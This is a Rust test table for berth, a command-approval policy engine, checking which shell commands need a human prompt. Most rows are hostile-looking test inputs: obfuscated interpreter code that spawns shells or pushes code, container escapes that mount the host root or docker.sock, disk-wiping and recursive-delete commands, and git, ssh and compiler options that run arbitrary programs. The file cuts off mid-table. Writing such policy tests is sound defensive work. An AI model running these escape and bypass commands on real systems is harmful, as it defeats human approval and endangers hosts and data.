//! Program-running options, git config keys and the privileged limit, by
//! meaning (POLICY.md, "Spelling does not change meaning", points 2, 10
//! and 11): each row is a command line, the allow rules, the mode, the
//! frame and the verdict the contract gives. Rows that must be asked run
//! in auto mode with the program allowed (nothing lifts them); rows that
//! must not over-prompt run in manual mode, so only an allow rule
//! approves them.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use berth_policy::{Stage, Verdict};

use crate::table::{ASK, AUTO, DENY, F, M};
use F::{Container, Host};
use M::{Auto, Manual};

pub(crate) type Row = (&'static str, &'static [&'static str], M, F, Verdict);

/// A row has only allow rules.
fn decide(row: &Row) -> berth_policy::Decision {
    let (cmd, allow, mode, frame, _) = *row;
    crate::table::case(cmd, allow, &[], &[], mode, frame)
        .inputs()
        .unwrap()
        .decide()
}

pub(crate) fn check(table: &[Row]) {
    crate::table::check_by(
        table,
        decide,
        |r| r.4,
        |r| format!("{:?} ({:?}, {:?})", r.0, r.2, r.3),
    );
}

/// Inline code in an interpreter is a program: opaque unless every name
/// it uses is on the language's list of names that run nothing.
#[rustfmt::skip]
const INLINE_CODE: &[Row] = &[
    // Code given under another name than `-c`/`-e`.
    ("python3 -m timeit 'import os; os.system(\"git push\")'", &["python3"], Auto, Container, ASK),
    ("python3 -m timeit -s 'import os' 'os.system(\"git push\")'", &["python3"], Auto, Host, ASK),
    ("python3 -m pdb -c 'import os' x.py", &["python3"], Auto, Container, ASK),
    ("python3 -m IPython -c 'import os'", &["python3"], Auto, Container, ASK),
    ("python3 -m code", &["python3"], Auto, Container, ASK),
    ("ipython -c 'import os; os.system(\"git push\")'", &["ipython"], Auto, Container, ASK),
    ("texlua -e 'os.execute(\"git push\")'", &["texlua"], Auto, Container, ASK),
    ("rake -e 'sh \"git push\"'", &["rake"], Auto, Container, ASK),
    ("rake -E 'sh \"git push\"' build", &["rake"], Auto, Host, ASK),
    ("lldb -b -o 'script import os; os.system(\"git push\")'", &["lldb"], Auto, Container, ASK),
    ("lldb --one-line='platform shell git push'", &["lldb"], Auto, Container, ASK),
    ("python3 -m pdb scripts/migrate.py", &["python3"], Manual, Container, AUTO),
    ("python3 -m timeit --help", &["python3"], Auto, Container, ASK),
    ("ipython scripts/report.py", &["ipython"], Manual, Container, AUTO),
    ("rake build test", &["rake"], Manual, Container, AUTO),
    ("python3 -c 'from os import system as s; s(\"git push origin main\")'", &["python3"], Auto, Container, ASK),
    ("python3 -c 'import os; getattr(os, \"sys\"+\"tem\")(\"id\")'", &["python3"], Auto, Container, ASK),
    ("python3 -Ic 'import pty; pty.spawn(\"sh\")'", &["python3"], Auto, Container, ASK),
    ("python3 -c\"__import__('os').system('id')\"", &["python3"], Auto, Container, ASK),
    ("python3 -uc 'import subprocess as p; p.run([\"git\",\"push\"])'", &["python3"], Auto, Container, ASK),
    ("python3 -W ignore -c 'exec(\"import os\")'", &["python3"], Auto, Container, ASK),
    ("python3 -c \"$CODE\"", &["python3"], Auto, Container, ASK),
    ("python3 -c 'print(open(\"/work/x\",\"w\").write(\"y\"))'", &["python3"], Auto, Container, ASK),
    ("node -e \"require('child'+'_process').execSync('git push')\"", &["node"], Auto, Container, ASK),
    ("node --eval=\"globalThis.process.mainModule.require('child_process')\"", &["node"], Auto, Container, ASK),
    ("node --eval \"[]['constructor']['constructor']('return process')()\"", &["node"], Auto, Container, ASK),
    ("node -pe \"process.binding('spawn_sync')\"", &["node"], Auto, Container, ASK),
    ("node --import 'data:text/javascript,import(\"child_process\")' app.js", &["node"], Auto, Container, ASK),
    ("bun -e 'Bun.spawn([\"git\",\"push\"])'", &["bun"], Auto, Container, ASK),
    ("deno eval 'new Deno.Command(\"git\", {args: [\"push\"]}).spawn()'", &["deno"], Auto, Container, ASK),
    ("perl -le 'system(\"git push origin main\")'", &["perl"], Auto, Container, ASK),
    ("perl -e 'exec q(git push)'", &["perl"], Auto, Container, ASK),
    ("perl -pe 's/x/`id`/e' f.txt", &["perl"], Auto, Container, ASK),
    ("perl -ne 'print \"@{[ qx(id) ]}\"' f.txt", &["perl"], Auto, Container, ASK),
    ("perl -M'POSIX;system(\"id\")' -e 1", &["perl"], Auto, Container, ASK),
    ("ruby -e 'Kernel.send(:system, \"id\")'", &["ruby"], Auto, Container, ASK),
    ("ruby -ne 'puts `id`'", &["ruby"], Auto, Container, ASK),
    ("php -r 'shell_exec(\"id\");'", &["php"], Auto, Container, ASK),
    ("php -r '$f = \"sys\".\"tem\"; $f(\"id\");'", &["php"], Auto, Container, ASK),
    ("lua -e 'os.execute(\"id\")'", &["lua"], Auto, Container, ASK),
    ("Rscript -e 'system(\"id\")'", &["Rscript"], Auto, Container, ASK),
    ("julia -e 'run(`id`)'", &["julia"], Auto, Container, ASK),
    ("erl -noshell -eval 'os:cmd(\"id\")'", &["erl"], Auto, Container, ASK),
    ("java -XX:OnError='sh -c id' -jar app.jar", &["java"], Auto, Container, ASK),
    ("pwsh -NoProfile -Comm 'Start-Process id'", &["pwsh"], Auto, Container, ASK),
    ("elixir -e 'System.cmd(\"id\", [])'", &["elixir"], Auto, Container, ASK),
    ("python3 -c '\u{ff45}\u{ff58}\u{ff45}\u{ff43}(1)'", &["python3"], Auto, Container, ASK),
    ("perl -MCPAN -e 1", &["perl"], Auto, Container, ASK),
    ("deno run 'data:text/javascript,Deno.exit(0)'", &["deno"], Auto, Container, ASK),
    // not over-prompting
    ("python3 script.py", &["python3"], Manual, Container, AUTO),
    ("python3 -m pytest -q tests/", &["python3"], Manual, Container, AUTO),
    ("python3 -c 'import sys; print(sys.version)'", &["python3"], Manual, Container, AUTO),
    ("python3 -c 'print(1 + 1)'", &["python3"], Manual, Container, AUTO),
    ("python3 app.py -c 'import os'", &["python3"], Manual, Container, AUTO),
    ("node app.js", &["node"], Manual, Container, AUTO),
    ("node --eval \"console.log(process.version)\"", &["node"], Manual, Container, AUTO),
    ("node --print \"process.versions\"", &["node"], Manual, Container, AUTO),
    ("perl -pe 's/foo/bar/g' notes.txt", &["perl"], Manual, Container, AUTO),
    ("perl -lane 'print $F[0]' notes.txt", &["perl"], Manual, Container, AUTO),
    ("ruby -e 'puts RUBY_VERSION'", &["ruby"], Manual, Container, AUTO),
    ("perl -Mstrict -lne 'print if /TODO/' src.txt", &["perl"], Manual, Container, AUTO),
    ("java -jar app.jar", &["java"], Manual, Container, AUTO),
    ("java -agentlib:jdwp=transport=dt_socket,server=y,address=*:5005 -jar app.jar", &["java"], Manual, Container, AUTO),
    ("pwsh -NoProfile -File build.ps1", &["pwsh"], Manual, Container, AUTO),
];

/// Options that make an allowed program run another program.
#[rustfmt::skip]
const PROGRAM_OPTIONS: &[Row] = &[
    // `docker run IMAGE cmd`: a command berth cannot follow inside the
    // container (a wrapper, inline code, a dynamic word, a program of the
    // deny templates' class, an unknown run option) is not auto-approved,
    // though the engine's allow rule covers running it (container_run.rs).
    ("docker run alpine sh -c 'git push origin main'", &["docker"], Auto, Container, ASK),
    ("docker run alpine env git push", &["docker"], Auto, Container, ASK),
    ("docker run alpine node -e 'x'", &["docker"], Auto, Container, ASK),
    ("docker run alpine mkfs.ext4 /dev/sda", &["docker"], Auto, Container, ASK),
    ("docker run --entrypoint sh alpine -c 'git push'", &["docker"], Auto, Container, ASK),
    ("docker run --frobnicate alpine date", &["docker"], Auto, Container, ASK),
    ("docker run alpine \"$CMD\"", &["docker"], Auto, Container, ASK),
    ("docker run -v \"$HOME\":/h alpine rm -rf /h", &["docker"], Auto, Container, ASK),
    ("make --eval='x:=$(shell git push origin main)' all", &["make"], Auto, Container, ASK),
    ("make --ev='$(shell id)'", &["make"], Auto, Container, ASK),
    ("make -E '$(shell id)' all", &["make"], Auto, Container, ASK),
    ("make -kE'$(shell id)'", &["make"], Auto, Container, ASK),
    ("make MAKEFLAGS=--eval=x all", &["make"], Auto, Container, ASK),
    ("make CC=./evil all", &["make"], Auto, Container, ASK),
    // Shells whose language berth does not parse run unknown programs.
    ("elvish -c 'git push'", &["elvish"], Auto, Container, ASK),
    ("nu -c 'git push'", &["nu"], Auto, Container, ASK),
    ("nu --commands 'git push'", &["nu"], Auto, Host, ASK),
    ("xonsh -c 'git push'", &["xonsh"], Auto, Container, ASK),
    ("ysh -c 'git push'", &["ysh"], Auto, Container, ASK),
    ("rc -c 'git push'", &["rc"], Auto, Container, ASK),
    ("bb -e '(shell/sh \"git\" \"push\")'", &["bb"], Auto, Container, ASK),
    ("nu --version", &["nu"], Manual, Container, AUTO),
    // Bourne-family clones: their `-c` script is parsed and judged.
    ("osh -c 'git push'", &["osh"], Auto, Container, ASK),
    ("hush -c 'git push'", &["hush"], Auto, Container, ASK),
    ("posh -c 'sudo id'", &["posh"], Auto, Container, ASK),
    ("loksh -c 'git push'", &["loksh"], Auto, Container, ASK),
    ("osh -c 'ls'", &["osh", "ls"], Manual, Container, AUTO),
    // Wrappers: the command they run is judged.
    ("dbus-launch git push", &["dbus-launch"], Auto, Container, ASK),
    ("dbus-launch --exit-with-session git push", &["dbus-launch"], Auto, Container, ASK),
    ("torify git push", &["torify"], Auto, Container, ASK),
    ("systemd-inhibit git push", &["systemd-inhibit"], Auto, Host, ASK),
    ("yarn node -e 'require(\"child_process\").execSync(\"git push\")'", &["yarn"], Auto, Container, ASK),
    ("yarn node server.js", &["yarn", "node"], Manual, Container, AUTO),
    ("cmake -E env git push", &["cmake"], Auto, Container, ASK),
    ("cmake -E chdir build sh -c 'git push'", &["cmake"], Auto, Container, ASK),
    ("cmake -E time git push", &["cmake"], Auto, Container, ASK),
    ("cmake -E copy a b", &["cmake"], Manual, Container, AUTO),
    // The dynamic loader runs the program it is given.
    ("/lib64/ld-linux-x86-64.so.2 /usr/bin/git push", &["ld-linux-x86-64.so.2"], Auto, Host, ASK),
    ("/lib/ld-musl-x86_64.so.1 /usr/bin/git push", &["ld-musl-x86_64.so.1"], Auto, Container, ASK),
    ("ld.so --preload /tmp/x.so /bin/ls", &["ld.so"], Auto, Container, ASK),
    // File watchers and remote executors run a command line.
    ("watchexec -- git push", &["watchexec"], Auto, Container, ASK),
    ("watchexec 'git push'", &["watchexec"], Auto, Host, ASK),
    ("reflex -- git push", &["reflex"], Auto, Container, ASK),
    ("chokidar '**' -c 'git push'", &["chokidar"], Auto, Container, ASK),
    ("salt-call cmd.run 'git push'", &["salt-call"], Auto, Host, ASK),
    // pnpm runs a word that is none of its commands as a program.
    ("pnpm git push", &["pnpm"], Auto, Container, ASK),
    ("pnpm --silent sudo id", &["pnpm"], Auto, Host, ASK),
    ("pnpm sh -c 'git push'", &["pnpm"], Auto, Container, ASK),
    ("pnpm node -e 'require(\"child_process\").execSync(\"git push\")'", &["pnpm"], Auto, Container, ASK),
    ("yarn git push", &["yarn"], Auto, Container, ASK),
    ("bun git push", &["bun"], Auto, Container, ASK),
    ("pnpm exec jest", &["pnpm", "jest"], Manual, Container, AUTO),
    ("pnpm test", &["pnpm"], Manual, Container, AUTO),
    ("pnpm run build", &["pnpm"], Manual, Container, AUTO),
    ("pnpm build", &["pnpm"], Manual, Container, AUTO),
    ("pnpm add -D typescript", &["pnpm"], Manual, Container, AUTO),
    ("pnpm env use --global 20", &["pnpm"], Manual, Container, AUTO),
    ("pnpm eslint src", &["pnpm"], Manual, Container, AUTO),
    ("yarn exec jest", &["yarn", "jest"], Manual, Container, AUTO),
    ("yarn lint", &["yarn"], Manual, Container, AUTO),
    ("bun install", &["bun"], Manual, Container, AUTO),
    // System containers' exec runs a command, as `docker exec` does.
    ("lxc exec c1 -- git push", &["lxc"], Auto, Host, ASK),
    ("incus exec c1 --env X=1 -- sh -c 'git push'", &["incus"], Auto, Host, ASK),
    ("lxc exec c1 git push", &["lxc"], Auto, Host, ASK),
    ("crictl exec -it abc sh -c 'git push'", &["crictl"], Auto, Host, ASK),
    ("ctr task exec --exec-id e1 c1 git push", &["ctr"], Auto, Host, ASK),
    ("lxc exec c1 -- ls /", &["lxc", "ls"], Manual, Container, AUTO),
    // `find -exec {}` runs each file found: a program known at run time.
    ("find . -exec {} \\;", &["find"], Auto, Container, ASK),
    ("find . -name '*.sh' -execdir ./{} +", &["find"], Auto, Host, ASK),
    ("find . -name '*.sh' -exec chmod +x {} +", &["find", "chmod"], Manual, Container, AUTO),
    ("make CFLAGS='$(shell git push)' all", &["make"], Auto, Container, ASK),
    ("sqlite3 app.db '.shell git push origin main'", &["sqlite3"], Auto, Container, ASK),
    ("sqlite3 app.db '.system id'", &["sqlite3"], Auto, Container, ASK),
    ("sqlite3 app.db '.once |sh'", &["sqlite3"], Auto, Container, ASK),
    ("sqlite3 -cmd '.shell id' app.db 'select 1'", &["sqlite3"], Auto, Container, ASK),
    ("sqlite3 app.db \"select load_extension('./x')\"", &["sqlite3"], Auto, Container, ASK),
    ("sqlite3 app.db \"select edit('x', 'vi')\"", &["sqlite3"], Auto, Container, ASK),
    ("gcc -wrapper ./evil,x main.c", &["gcc"], Auto, Container, ASK),
    ("gcc -fplugin=./p.so main.c", &["gcc"], Auto, Container, ASK),
    ("gcc -B ./bin main.c", &["gcc"], Auto, Container, ASK),
    ("gcc -B./bin main.c", &["gcc"], Auto, Container, ASK),
    ("cc -specs=./x.specs main.c", &["cc"], Auto, Container, ASK),
    ("clang -Xclang -load -Xclang ./p.so main.c", &["clang"], Auto, Container, ASK),
    ("clang -fuse-ld=./ld main.c", &["clang"], Auto, Container, ASK),
    ("g++ @opts.rsp main.cpp", &["g++"], Auto, Container, ASK),
    ("gcc -Wl,-plugin,./p.so main.c", &["gcc"], Auto, Container, ASK),
    ("go vet -vettool=./evil ./...", &["go vet"], Auto, Container, ASK),
    ("go vet -vettool ./evil ./...", &["go vet"], Auto, Container, ASK),
    ("go build -toolexec ./evil ./...", &["go build"], Auto, Container, ASK),
    ("go test --exec=./evil ./...", &["go test"], Auto, Container, ASK),
    ("go build -ldflags='-linkmode=external -extld=./evil' .", &["go build"], Auto, Container, ASK),
    ("ssh -F ./cfg host true", &["ssh"], Auto, Container, ASK),
    ("ssh -vFcfg host", &["ssh"], Auto, Container, ASK),
    ("ssh -o ProxyCommand='sh -c id' host", &["ssh"], Auto, Container, ASK),
    ("ssh -oproxycommand=id host", &["ssh"], Auto, Container, ASK),
    ("ssh -o 'LocalCommand id' -o PermitLocalCommand=yes host", &["ssh"], Auto, Container, ASK),
    ("scp -F cfg a host:b", &["scp"], Auto, Container, ASK),
    ("scp -S ./evil a host:b", &["scp"], Auto, Container, ASK),
    ("gh alias set --shell ship 'git push origin main' && gh ship", &["gh"], Auto, Container, ASK),
    ("gh alias set co 'pr checkout'", &["gh alias"], Auto, Container, ASK),
    ("gh config set pager 'sh -c id'", &["gh config"], Auto, Container, ASK),
    ("gh ship", &["gh"], Auto, Container, ASK),
    ("psql -c '\\! git push origin main' app", &["psql"], Auto, Container, ASK),
    ("psql app -c \"copy t to program 'sh -c id'\"", &["psql"], Auto, Container, ASK),
    ("mysql -e 'system id' app", &["mysql"], Auto, Container, ASK),
    ("mysql --pager='sh -c id' app", &["mysql"], Auto, Container, ASK),
    ("emacs --batch --eval '(shell-command \"id\")'", &["emacs"], Auto, Container, ASK),
    ("wget --use-askpass=./x https://example.com", &["wget"], Auto, Container, ASK),
    ("wget -e 'use_askpass=./x' https://example.com", &["wget"], Auto, Container, ASK),
    ("gh extension install owner/gh-x", &["gh"], Auto, Container, ASK),
    ("git ship origin main", &["git"], Auto, Container, ASK),
    ("git fetch --upload-p='sh -c id' origin", &["git fetch"], Auto, Container, ASK),
    ("git clone --upload-pa=./x https://example.com/r.git", &["git clone"], Auto, Container, ASK),
    ("git merge-index ./evil -a", &["git merge-index"], Auto, Container, ASK),
    // not over-prompting
    ("make test", &["make"], Manual, Container, AUTO),
    ("make -j4 -C sub build", &["make"], Manual, Container, AUTO),
    ("make lint CC=clang", &["make"], Manual, Container, AUTO),
    ("make --environment-overrides all", &["make"], Manual, Container, AUTO),
    ("sqlite3 app.db 'select * from users'", &["sqlite3"], Manual, Container, AUTO),
    ("sqlite3 app.db .tables", &["sqlite3"], Manual, Container, AUTO),
    ("sqlite3 -header app.db '.schema users'", &["sqlite3"], Manual, Container, AUTO),
    ("gcc -O2 -Wall -o app main.c", &["gcc"], Manual, Container, AUTO),
    ("clang -fuse-ld=lld -Wl,--as-needed -o app main.c", &["clang"], Manual, Container, AUTO),
    ("g++ -std=c++17 -Iinclude -c x.cpp -o x.o", &["g++"], Manual, Container, AUTO),
    ("go vet ./...", &["go vet"], Manual, Container, AUTO),
    ("go build -ldflags '-s -w' -o app ./cmd/app", &["go build"], Manual, Container, AUTO),
    ("go test -run TestX ./...", &["go test"], Manual, Container, AUTO),
    // `ext::` remotes run the command their URL names.
    ("GIT_ALLOW_PROTOCOL=ext git fetch evil", &["git fetch"], Auto, Container, ASK),
    // less runs its `+` commands at start; `!` is a shell escape.
    ("less '+!git push' notes.txt", &["less"], Auto, Container, ASK),
    ("less +G notes.txt", &["less"], Manual, Container, AUTO),
    // Programs run by a name berth cannot follow (opaque).
    ("nix run nixpkgs#git -- push", &["nix"], Auto, Container, ASK),
    ("sops exec-env s.yaml 'git push'", &["sops"], Auto, Container, ASK),
    ("summon git push", &["summon"], Auto, Container, ASK),
    // A remote shell is privileged whatever its options (PRIVILEGED below).
    ("ssh -p 2222 -o StrictHostKeyChecking=no user@host ls -F", &["ssh"], Manual, Container, ASK),
    ("gh pr view 12", &["gh pr"], Manual, Container, AUTO),
    ("psql -c 'select 1' app", &["psql"], Manual, Container, AUTO),
    ("psql app -c '\\dt'", &["psql"], Manual, Container, AUTO),
    ("mysql -e 'show tables' app", &["mysql"], Manual, Container, AUTO),
    ("emacs --batch -l build.el", &["emacs"], Manual, Container, AUTO),
    // Arguments xargs reads from stdin may be the subcommand the privileged
    // limit compares (opaque: a dynamic word where `git push` would be).
    ("echo push | xargs git", &["echo", "xargs"], Auto, Container, ASK),
    ("xargs -n1 npm < verbs.txt", &["xargs"], Auto, Container, ASK),
    ("git ls-files -z | xargs -0 git add", &["git ls-files", "xargs"], Auto, Container, AUTO),
    ("git ls-files | xargs wc -l", &["git ls-files", "xargs"], Auto, Container, AUTO),
    // Every subcommand that takes the diff options runs `--ext-diff`'s driver.
    ("git stash show -p --ext-diff", &["git stash"], Auto, Container, ASK),
    ("git stash show -p --ext-d", &["git stash"], Auto, Container, ASK),
    ("git reflog show --ext-diff", &["git reflog"], Auto, Container, ASK),
    ("git range-diff --ext-diff main topic", &["git range-diff"], Auto, Container, ASK),
    ("git stash show -p", &["git stash"], Manual, Container, AUTO),
    ("git reflog show -5", &["git reflog"], Manual, Container, AUTO),
    // ripgrep runs the program `--hostname-bin` names for hyperlinks.
    ("rg --hostname-bin=./x --hyperlink-format='{host}{path}' TODO", &["rg"], Auto, Container, ASK),
    ("rg --hostname-bin ./x TODO", &["rg"], Auto, Container, ASK),
    ("rg --hyperlink-format=default TODO", &["rg"], Manual, Container, AUTO),
    ("wget -e robots=off -r https://example.com/docs/", &["wget"], Manual, Container, AUTO),
    ("gh alias list", &["gh alias"], Manual, Container, AUTO),
    ("gh extension list", &["gh extension"], Manual, Container, AUTO),
    ("git lfs pull", &["git lfs"], Manual, Container, AUTO),
    ("git fetch --unshallow origin", &["git fetch"], Manual, Container, AUTO),
    ("git mergetool --tool-help", &["git mergetool"], Manual, Container, AUTO),
    ("git merge-index -o git-merge-one-file -a", &["git merge-index"], Manual, Container, AUTO),
    ("gh config set git_protocol ssh", &["gh config"], Manual, Container, AUTO),
];

/// git: config keys that run programs, the positive list of keys that
/// cannot, and dashed spellings of git commands.
#[rustfmt::skip]
const GIT_CONFIG: &[Row] = &[
    ("git config core.alternateRefsCommand 'sh -c id'", &["git config"], Auto, Container, ASK),
    ("git config help.autocorrect immediate", &["git config"], Auto, Container, ASK),
    ("git config init.templateDir ./tpl", &["git config"], Auto, Container, ASK),
    ("git config imap.tunnel 'sh -c id'", &["git config"], Auto, Container, ASK),
    ("git config sequence.editor ./x", &["git config"], Auto, Container, ASK),
    ("git config gpg.program ./x", &["git config"], Auto, Container, ASK),
    ("git config gpg.ssh.program ./x", &["git config"], Auto, Container, ASK),
    ("git config merge.ours.driver './x %A'", &["git config"], Auto, Container, ASK),
    ("git config diff.bin.textconv ./x", &["git config"], Auto, Container, ASK),
    ("git config filter.x.smudge ./x", &["git config"], Auto, Container, ASK),
    ("git config core.fsmonitor ./x", &["git config"], Auto, Container, ASK),
    ("git config core.hooksPath ./hooks", &["git config"], Auto, Container, ASK),
    ("git config core.sshCommand ./x", &["git config"], Auto, Container, ASK),
    ("git config core.pager ./x", &["git config"], Auto, Container, ASK),
    ("git config core.editor ./x", &["git config"], Auto, Container, ASK),
    ("git config credential.helper './x'", &["git config"], Auto, Container, ASK),
    ("git config alias.st '!sh -c id'", &["git config"], Auto, Container, ASK),
    ("git config alias.ship push", &["git config"], Auto, Container, ASK),
    ("git config uploadpack.packObjectsHook ./x", &["git config"], Auto, Container, ASK),
    ("git config --add core.pager ./x", &["git config"], Auto, Container, ASK),
    ("git config set core.pager ./x", &["git config"], Auto, Container, ASK),
    ("git config --local --replace-all CORE.PAGER ./x", &["git config"], Auto, Container, ASK),
    ("git config some.unknown.key value", &["git config"], Auto, Container, ASK),
    ("git config --edit", &["git config"], Auto, Container, ASK),
    ("git config --ed", &["git config"], Auto, Container, ASK),
    ("git -c core.pager='sh -c id' log", &["git log"], Auto, Container, ASK),
    ("git -c alias.x=push x origin main", &["git"], Auto, Container, ASK),
    ("git -ccore.fsmonitor=./x status", &["git status"], Auto, Container, ASK),
    ("git --config-env=core.editor=EDITOR commit", &["git commit"], Auto, Container, ASK),
    ("git -c user.name=x -c core.sshCommand=./x fetch", &["git fetch"], Auto, Container, ASK),
    ("git -c \"$K\" status", &["git status"], Auto, Container, ASK),
    ("git rebase -fx 'git push origin main' HEAD~1", &["git rebase"], Auto, Container, ASK),
    ("git rebase --exe='git push origin main' HEAD~1", &["git rebase"], Auto, Container, ASK),
    // writes outside the project that name no path (POLICY point 9)
    ("git config --global user.name x", &["git config"], Manual, Host, ASK),
    ("git config --system user.name x", &["git config"], Manual, Host, ASK),
    ("git config --glob user.name x", &["git config"], Manual, Host, ASK),
    ("git config -f ~/.gitconfig user.name x", &["git config"], Manual, Host, ASK),
    // The container's home is in scope, but `~/.gitconfig` is a protected
    // path (point 10): writing it is never auto-approved.
    ("git config --global user.name x", &["git config"], Manual, Container, ASK),
    ("git config --global --get user.name", &["git config"], Manual, Host, AUTO),
    // not over-prompting
    ("git config user.name x", &["git config"], Manual, Container, AUTO),
    ("git config user.email x@example.com", &["git config"], Manual, Container, AUTO),
    ("git config --get core.pager", &["git config"], Manual, Container, AUTO),
    ("git config --list", &["git config"], Manual, Container, AUTO),
    ("git config alias.unstage", &["git config"], Manual, Container, AUTO),
    ("git config --unset alias.unstage", &["git config"], Manual, Container, AUTO),
    ("git config pull.rebase true", &["git config"], Manual, Container, AUTO),
    ("git config color.diff.meta 'blue bold'", &["git config"], Manual, Container, AUTO),
    ("git -c user.name=x -c user.email=y commit -m m", &["git commit"], Manual, Container, AUTO),
    ("git -c color.ui=never -c core.quotepath=off log --oneline", &["git log"], Manual, Container, AUTO),
    ("git -c init.defaultBranch=main init", &["git init"], Manual, Container, AUTO),
    ("git -c advice.detachedHead=false checkout v1", &["git checkout"], Manual, Container, AUTO),
];

/// The privileged limit as a class: publishing, deploying, pushing code or
/// images, PRs, raw network connections and privilege, in any spelling.
#[rustfmt::skip]
const PRIVILEGED: &[Row] = &[
    ("git-push origin main", &["git-push"], Auto, Container, ASK),
    ("/usr/lib/git-core/git-push origin main", &["/usr/lib/git-core/git-push"], Auto, Container, ASK),
    ("git-send-pack origin main", &["git-send-pack"], Auto, Container, ASK),
    ("git http-push https://example.com/r.git main", &["git"], Auto, Container, ASK),
    ("python3 -m twine upload dist/*", &["python3"], Auto, Container, ASK),
    ("python -Bm twine upload dist/*", &["python"], Auto, Container, ASK),
    ("npm pub", &["npm"], Auto, Container, ASK),
    ("npm publis --access public", &["npm"], Auto, Container, ASK),
    ("npm unpub pkg@1.0.0", &["npm"], Auto, Container, ASK),
    ("vc deploy --prod", &["vc"], Auto, Container, ASK),
    ("vc --prod", &["vc"], Auto, Container, ASK),
    ("ntl deploy --prod", &["ntl"], Auto, Container, ASK),
    ("wrangler pages deploy ./dist", &["wrangler"], Auto, Container, ASK),
    ("wrangler pages publish ./dist", &["wrangler"], Auto, Container, ASK),
    ("ksu root -e /bin/sh", &["ksu"], Auto, Host, ASK),
    ("calife -", &["calife"], Auto, Host, ASK),
    ("pfexec id", &["pfexec"], Auto, Host, ASK),
    ("runas id", &["runas"], Auto, Container, ASK),
    ("gksudo id", &["gksudo"], Auto, Host, ASK),
    ("kdesu id", &["kdesu"], Auto, Host, ASK),
    ("/usr/bin/lxsudo id", &["lxsudo"], Auto, Host, ASK),
    ("sux id", &["sux"], Auto, Host, ASK),
    ("npm access public pkg", &["npm"], Auto, Container, ASK),
    ("npm access 2fa-not-required pkg", &["npm"], Auto, Container, ASK),
    ("npm team add org:devs evil", &["npm"], Auto, Container, ASK),
    ("npm org set org evil admin", &["npm"], Auto, Container, ASK),
    ("npm profile set email dev@example.com", &["npm"], Manual, Container, AUTO),
    ("npm access list packages", &["npm"], Manual, Container, AUTO),
    ("npm access get status pkg", &["npm"], Manual, Container, AUTO),
    ("npm team ls org", &["npm"], Manual, Container, AUTO),
    // Other container engines' ways to gain the host.
    ("ctr run --privileged docker.io/library/alpine:latest x", &["ctr"], Auto, Host, ASK),
    ("ctr run --mount type=bind,src=/,dst=/host,options=rbind docker.io/library/alpine:latest x", &["ctr"], Auto, Host, ASK),
    ("lxc config set c1 security.privileged true", &["lxc"], Auto, Host, ASK),
    ("incus launch images:debian/12 c1 -c raw.lxc='lxc.mount.entry=/ host none bind'", &["incus"], Auto, Host, ASK),
    ("lxc config device add c1 root disk source=/ path=/host", &["lxc"], Auto, Host, ASK),
    ("ctr run docker.io/library/alpine:latest x", &["ctr"], Manual, Container, AUTO),
    ("lxc config get c1 security.privileged", &["lxc"], Manual, Container, AUTO),
    ("lxc config device add c1 src disk source=/work path=/src", &["lxc"], Manual, Container, AUTO),
    // curlie reads httpie's `METHOD URL ITEM…` as well as curl's options.
    ("curlie post api.github.com/repos/o/r/issues title=x", &["curlie"], Auto, Container, ASK),
    ("curlie -X POST https://api.github.com/repos/o/r/issues", &["curlie"], Auto, Container, ASK),
    ("curlie api.github.com/repos/o/r", &["curlie"], Manual, Container, AUTO),
    // Package scripts named for publishing, by other runners.
    ("deno task deploy", &["deno"], Auto, Container, ASK),
    ("fab deploy", &["fab"], Auto, Container, ASK),
    ("turbo run deploy --filter=web", &["turbo"], Auto, Container, ASK),
    ("nx run web:deploy", &["nx"], Auto, Container, ASK),
    ("npm-run-all build deploy", &["npm-run-all"], Auto, Container, ASK),
    ("deno task dev", &["deno"], Manual, Container, AUTO),
    ("turbo run build", &["turbo"], Manual, Container, AUTO),
    ("docker buildx build --push -t r/x .", &["docker"], Auto, Container, ASK),
    ("docker buildx build --output type=registry -t r/x .", &["docker"], Auto, Container, ASK),
    ("docker buildx build -o type=image,name=r/x,push=true .", &["docker"], Auto, Container, ASK),
    ("docker buildx bake --push", &["docker"], Auto, Container, ASK),
    ("docker buildx bake --set '*.output=type=registry'", &["docker"], Auto, Container, ASK),
    ("docker compose push", &["docker"], Auto, Container, ASK),
    ("docker compose build --push", &["docker"], Auto, Container, ASK),
    ("podman push r/x", &["podman"], Auto, Container, ASK),
    ("podman manifest push r/x", &["podman"], Auto, Container, ASK),
    ("hub api -F title=x repos/o/r/issues", &["hub"], Auto, Container, ASK),
    ("gh api -X POST repos/o/r/pulls", &["gh"], Auto, Container, ASK),
    ("curl -X POST -H 'Authorization: token t' https://api.github.com/repos/o/r/pulls -d '{}'", &["curl"], Auto, Container, ASK),
    ("curl -sSd @body.json https://api.github.com/repos/o/r/issues", &["curl"], Auto, Container, ASK),
    ("curl --req PUT https://gitlab.com/api/v4/projects/1/repository/files/x", &["curl"], Auto, Container, ASK),
    ("curl -T dist/x.tgz https://registry.npmjs.org/x", &["curl"], Auto, Container, ASK),
    ("wget --method=DELETE https://api.github.com/repos/o/r", &["wget"], Auto, Container, ASK),
    ("http POST api.github.com/repos/o/r/issues title=x", &["http"], Auto, Container, ASK),
    ("http api.github.com/repos/o/r/issues title=x", &["http"], Auto, Container, ASK),
    ("curl -X POST \"$API/repos\"", &["curl"], Auto, Container, ASK),
    ("terragrunt apply", &["terragrunt"], Auto, Container, ASK),
    ("terragrunt run-all apply", &["terragrunt"], Auto, Container, ASK),
    ("gcloud run deploy api --source .", &["gcloud"], Auto, Container, ASK),
    ("gcloud app deploy", &["gcloud"], Auto, Container, ASK),
    ("cdk deploy --all", &["cdk"], Auto, Container, ASK),
    ("sam deploy --guided", &["sam"], Auto, Container, ASK),
    ("aws cloudformation deploy --template-file t.yml --stack-name s", &["aws"], Auto, Container, ASK),
    ("systemd-run --user sh -c id", &["systemd-run"], Auto, Container, ASK),
    ("sudo-rs ls", &["sudo-rs"], Auto, Container, ASK),
    ("docker run --privileged -v /:/host alpine sh", &["docker"], Auto, Container, ASK),
    ("docker run -v /:/host alpine sh", &["docker"], Auto, Container, ASK),
    ("docker run --mount type=bind,source=/,target=/host alpine", &["docker"], Auto, Container, ASK),
    ("docker container run -v /var/run/docker.sock:/s alpine", &["docker"], Auto, Container, ASK),
    ("docker run --pid=host alpine", &["docker"], Auto, Container, ASK),
    ("docker run --cap-add SYS_ADMIN alpine", &["docker"], Auto, Container, ASK),
    // The command a run gives the container (privileged/container_run.rs).
    ("docker run --rm alpine git push origin main", &["docker"], Auto, Container, ASK),
    ("docker container run -it alpine sudo id", &["docker"], Auto, Container, ASK),
